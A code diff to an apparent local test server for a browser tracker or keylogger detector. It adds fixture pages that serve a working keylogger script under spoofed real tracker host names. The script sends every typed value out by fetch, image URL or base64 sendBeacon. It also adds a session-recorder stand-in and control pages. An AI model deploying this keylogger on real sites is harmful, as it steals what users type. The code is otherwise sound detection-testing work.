@@ -151,7 +151,74 @@ const pages = {
   '/drawing': `<h1>Sketch pad</h1><canvas id="pad" width="400" height="240" style="border:1px solid #999"></canvas>
   <button id="save">Save drawing</button><p id="saved"></p><script src="/drawing.js"></script>`,
   '/many': '',
+  // Before you type (issue 18): filled in per request, like /tracked.
+  '/keylog': '',
+  '/autosave': '',
+  '/recorded': '',
+  '/replayed': '',
+  '/quiet': '',
 };
+
+/** Real session-recorder host names and a recorder nobody lists, resolved to 127.0.0.1 too. */
+export const RECORDER_HOSTS = ['static.hotjar.com', 'cdn.session-replay.test'];
+
+const composeBox = `<h1>New post</h1><textarea id="ta" rows="4" cols="60"></textarea>
+  <div id="ce" contenteditable="true" style="min-height:40px;width:480px;border:1px solid #888;margin-top:8px"></div>
+  <p id="status"></p>`;
+
+/**
+ * Before-you-type pages. /keylog: a third-party script (from a real tracker
+ * host name) sends what is typed on every input, in one form (?form=plain:
+ * JSON by fetch; url: an image address; base64: sendBeacon). /autosave: the
+ * page's own script saves the draft to its own server as it is typed.
+ * /recorded: a session recorder from its real host name. /replayed: one
+ * that no list names, found by what it does. /quiet: neither.
+ */
+const typingPage = (path, port, query) => {
+  const form = /^(plain|url|base64)$/.test(query.get('form') || '') ? query.get('form') : 'plain';
+  if (path === '/keylog') return `${composeBox}<script src="https://www.google-analytics.com:${port}/keylog.js?form=${form}"></script>`;
+  if (path === '/autosave') return `${composeBox}<script>
+    window.__saved = 0;
+    document.getElementById('ta').addEventListener('input', (e) => {
+      fetch('/drafts', { method: 'POST', body: JSON.stringify({ draft: e.target.value }) }).then(() => window.__saved++);
+    });
+  </script>`;
+  if (path === '/recorded') return `${composeBox}<script src="https://static.hotjar.com:${port}/c/hotjar-1234.js?sv=6"></script>`;
+  if (path === '/replayed') return `${composeBox}<script src="https://cdn.session-replay.test:${port}/rec.js"></script>`;
+  return composeBox;
+};
+
+/** A key logger: every input in a text field, sent away at once in one form. */
+const keylogScript = `(() => {
+  const src = new URL(document.currentScript.src);
+  const form = src.searchParams.get('form');
+  window.__sent = 0;
+  document.addEventListener('input', (e) => {
+    const el = e.target;
+    const value = 'value' in el ? el.value : el.innerText;
+    if (form === 'url') new Image().src = src.origin + '/g/px?ev=input&v=' + encodeURIComponent(value);
+    else if (form === 'base64') navigator.sendBeacon(src.origin + '/g/b', btoa(unescape(encodeURIComponent(JSON.stringify({ v: value })))));
+    else fetch(src.origin + '/g/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ ev: 'input', v: value }) });
+    window.__sent++;
+  }, true);
+})();`;
+
+/**
+ * A session recorder: listens for keys and the pointer at the document,
+ * observes every change to it, and sends batches (counts only: what it
+ * records is not what it sends here, so it is found as a recorder, not as a
+ * key logger).
+ */
+const recorderScript = `(() => {
+  const origin = new URL(document.currentScript.src).origin;
+  let events = 0;
+  window.__batches = 0;
+  for (const type of ['keydown', 'input', 'mousemove', 'click', 'scroll']) document.addEventListener(type, () => events++, true);
+  new MutationObserver((m) => { events += m.length; }).observe(document, { childList: true, subtree: true, attributes: true, characterData: true, attributeOldValue: true, characterDataOldValue: true });
+  setInterval(() => {
+    fetch(origin + '/rec/batch', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ events }) }).then(() => window.__batches++, () => {});
+  }, 300);
+})();`;
 
 /** Real tracker host names, resolved to 127.0.0.1 by Chromium's --host-resolver-rules. */
 export const TRACKER_HOSTS = ['connect.facebook.net', 'www.facebook.com', 'www.google-analytics.com',
@@ -245,11 +312,21 @@ const GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAE
 
 export function startServer() {
   const received = [];
+  const drafts = [];
   const posted = [];
   const trackerHits = [];
   const tls = { port: 0 };
   const handler = (req, res) => {
     const path = new URL(req.url, 'http://x').pathname;
+    if (req.method === 'POST' && path === '/drafts') {
+      req.resume();
+      req.on('end', () => {
+        drafts.push(Date.now());
+        res.writeHead(204);
+        res.end();
+      });
+      return;
+    }
     if (req.method === 'POST' && path === '/posted') {
       let body = '';
       req.setEncoding('utf8');
@@ -293,7 +370,10 @@ export function startServer() {
     if (host !== '127.0.0.1' && host !== 'localhost' && host !== 'plain.test') {
       // A stand-in for a tracker's server.
       trackerHits.push(host);
-      if (path === '/fp.js') {
+      if (path === '/keylog.js' || path === '/c/hotjar-1234.js' || path === '/rec.js') {
+        res.writeHead(200, { 'content-type': 'text/javascript' });
+        res.end(path === '/keylog.js' ? keylogScript : recorderScript);
+      } else if (path === '/fp.js') {
         res.writeHead(200, { 'content-type': 'text/javascript' });
         res.end(fpScript);
       } else if (path.endsWith('js')) {
@@ -336,7 +416,10 @@ export function startServer() {
       res.end(drawingScript);
       return;
     }
-    const page = path === '/tracked' ? trackedPage(tls.port) : path === '/many' ? manyPage(tls.port) : (pages[path] ?? hostilePages[path] ?? attackPages[path]);
+    const query = new URL(req.url, 'http://x').searchParams;
+    const page = path === '/tracked' ? trackedPage(tls.port) : path === '/many' ? manyPage(tls.port)
+      : ['/keylog', '/autosave', '/recorded', '/replayed', '/quiet'].includes(path) ? typingPage(path, tls.port, query)
+      : (pages[path] ?? hostilePages[path] ?? attackPages[path]);
     if (!page) {
       res.writeHead(404);
       res.end();
@@ -357,7 +440,7 @@ export function startServer() {
     tls.port = secure.address().port;
     const base = `http://127.0.0.1:${server.address().port}`;
     const close = () => Promise.all([new Promise((r) => server.close(r)), new Promise((r) => secure.close(r))]);
-    return { base, received, posted, trackerHits, port: server.address().port, tlsPort: tls.port, close };
+    return { base, received, posted, drafts, trackerHits, port: server.address().port, tlsPort: tls.port, close };
   });
 }
 
